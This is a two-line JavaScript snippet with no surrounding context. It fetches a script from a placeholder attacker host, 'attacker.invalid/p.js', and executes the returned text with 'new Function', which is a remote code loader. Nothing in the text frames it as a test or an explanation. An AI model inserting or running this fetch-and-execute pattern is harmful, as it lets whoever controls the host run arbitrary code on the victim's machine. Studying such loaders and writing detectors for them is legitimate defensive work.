const u = "https://attacker.invalid/p.js";
new Function(await (await fetch(u)).text())();
